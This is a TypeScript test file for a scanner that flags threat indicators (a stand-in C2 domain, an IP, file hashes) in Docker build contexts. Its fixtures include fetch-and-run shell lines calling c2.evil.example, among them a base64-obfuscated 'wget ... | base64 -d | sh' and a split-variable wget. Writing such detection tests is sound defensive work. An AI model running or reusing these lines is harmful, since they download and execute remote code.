import t from 'tap';
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import fc from 'fast-check';
import { CONTEXT_LIMITS, relayContext } from '../../src/capture/context/context.js';
import { watchIndicators, WATCH_LIMITS, type WatchLimits } from '../../src/capture/context/watch.js';
import type { IndicatorIndex } from '../../src/intel/indicator.js';
import { indexOf } from '../support/indicators.js';
import { file, symlink, tar } from '../support/tar.js';

// What a build context holds, seen while it goes by to the engine in pieces of any size.

const NAME = 'c2.evil.example';
const hashOf = (algorithm: string, data: string | Buffer): string =>
  createHash(algorithm).update(data).digest('hex');
const MALWARE = 'malware'.repeat(50_000);
const index = indexOf([
  ['domain', NAME],
  ['ipv4', '198.51.100.66'],
  ['hash', hashOf('sha256', MALWARE)],
  ['hash', hashOf('md5', 'small')],
  ['hash', hashOf('sha256', '')],
]);

interface Seen {
  readonly places: string[];
  readonly truncated: boolean;
}

async function seen(
  pieces: readonly Buffer[],
  { of = index, limits = WATCH_LIMITS }: { of?: IndicatorIndex; limits?: WatchLimits } = {},
): Promise<Seen> {
  const watch = watchIndicators(of, limits)!;
  const relay = relayContext(Readable.from(pieces), {
    dockerfile: '',
    limits: CONTEXT_LIMITS,
    idle: 5_000,
    watch,
  });
  relay.output.resume();
  await relay.read;
  relay.destroy();
  return {
    places: watch.matches.map(({ hit, where }) => `${hit.indicator} ${where}`),
    truncated: watch.truncated,
  };
}

const inFile = (data: string | Buffer, name = 'x'): Promise<Seen> => seen([tar(file(name, data))]);

t.test('names, link targets, text and hashes', async (t) => {
  const { places, truncated } = await seen([
    tar(
      file('Dockerfile', 'FROM alpine\n'),
      file(`t/${NAME}`, '1'),
      symlink('l', `../${NAME}/x`),
      file('dock/main.sh', `#!/bin/sh\nwget http://${NAME}/x\n`),
      file('conf/ü.json', '{"pool":"198.51.100.66:3333"}'),
      file('empty', ''),
      file('small.bin', 'small'),
      file('bin/app', MALWARE),
    ),
  ]);
  t.same(places, [
    `${NAME} context file t/${NAME}`,
    `${NAME} context file l`,
    `${NAME} context file dock/main.sh`,
    '198.51.100.66 context file conf/ü.json',
    `${hashOf('md5', 'small')} context file small.bin`,
    `${hashOf('sha256', MALWARE)} context file bin/app`,
  ]);
  t.notOk(truncated);
});

t.test('nothing is watched where nothing is listed', async (t) => {
  t.equal(watchIndicators(indexOf([])), undefined);
});

t.test('scripts are decoded as commands are, other files are not', async (t) => {
  const hidden = `echo ${Buffer.from(`wget ${NAME}`).toString('base64')} | base64 -d | sh\n`;
  t.same((await inFile(hidden, 'main.sh')).places, [`${NAME} context file main.sh`]);
  t.same((await inFile(`#!/bin/sh\n${hidden}`)).places, [`${NAME} context file x`]);
  t.same((await inFile("A=c2.evil; B=example; wget $A.''$B\n", 'a.bash')).places, [
    `${NAME} context file a.bash`,
  ]);
  t.same((await inFile(hidden, 'notes.txt')).places, []);
});

t.test('what is no text is not read as text', async (t) => {
  t.same((await inFile(`\0\n${NAME}\n`)).places, []);
  t.same((await inFile(`${'a\n'.repeat(600)}\0\n${NAME}\n`)).places, [`${NAME} context file x`], 'late NULs');
});

t.test('wherever it stands in a long file, and only whole', async (t) => {
  for (const line of [
    'some words of an honest file\n',
    'x'.repeat(70) + '\n',
    '"key":{"a":[1,2]},',
    'word ',
  ]) {
    const text = line.repeat(Math.ceil(200_000 / line.length));
    for (let at = 65_536 - 40; at < 65_536 + 20; at += 17) {
      const before = text.slice(0, at);
      t.same((await inFile(`${before} ${NAME} ${text}`)).places, [`${NAME} context file x`], `at ${at}`);
      t.same((await inFile(`${before} no${NAME} ${text}`)).places, [], `a longer name at ${at}`);
      t.same((await inFile(`${before} ${NAME}s ${text}`)).places, [], `a longer ending at ${at}`);
    }
  }
});

t.test('in pieces of any size', async () => {
  const whole = tar(file('a', `${'word '.repeat(30_000)}${NAME} `), file('b', MALWARE), file('c', 'small'));
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.integer({ min: 1, max: 90_000 }), { minLength: 1, maxLength: 4 }),
      async (sizes) => {
        const pieces: Buffer[] = [];
        for (let at = 0, n = 0; at < whole.length; at += sizes[n++ % sizes.length]!) {
          pieces.push(whole.subarray(at, at + sizes[n % sizes.length]!));
        }
        const { places } = await seen(pieces);
        return places.length === 3;
      },
    ),
    { numRuns: 25 },
  );
});

t.test('limits: not searched, but hashed all the same', async (t) => {
  const late = `${'word '.repeat(30_000)}${NAME} `;
  const of = indexOf([
    ['domain', NAME],
    ['hash', hashOf('sha256', late)],
  ]);
  const small = { file: 100_000, total: 1024 ** 2 };
  const places = async (data: Buffer, limits: WatchLimits): Promise<string[]> =>
    (await seen([data], { of, limits })).places;
  t.same(await places(tar(file('a', late)), small), [`${hashOf('sha256', late)} context file a`]);
  t.same(
    await places(tar(file('a', 'b'.repeat(90_000)), file('b', NAME)), { file: 100_000, total: 80_000 }),
    [],
  );
  t.same(await places(tar(file('a', `${'word '.repeat(19_000)}${NAME} `)), small), [
    `${NAME} context file a`,
  ]);
});

t.test('a flood of indicators is not listed without end, and said', async (t) => {
  const { places, truncated } = await seen([
    tar(...Array.from({ length: 300 }, (_, n) => file(`f${n}`, NAME))),
  ]);
  t.ok(places.length <= 256);
  t.ok(truncated);
});

t.test('hostile text takes linear time', async (t) => {
  for (const unit of ['a', 'a.', 'http://1.1.1.1', '1.', ':', '.', 'a@', '%41', '198.51.100.6']) {
    const started = performance.now();
    await inFile(unit.repeat(1024 ** 2 / unit.length));
    t.ok(performance.now() - started < 3_000, JSON.stringify(unit));
  }
});
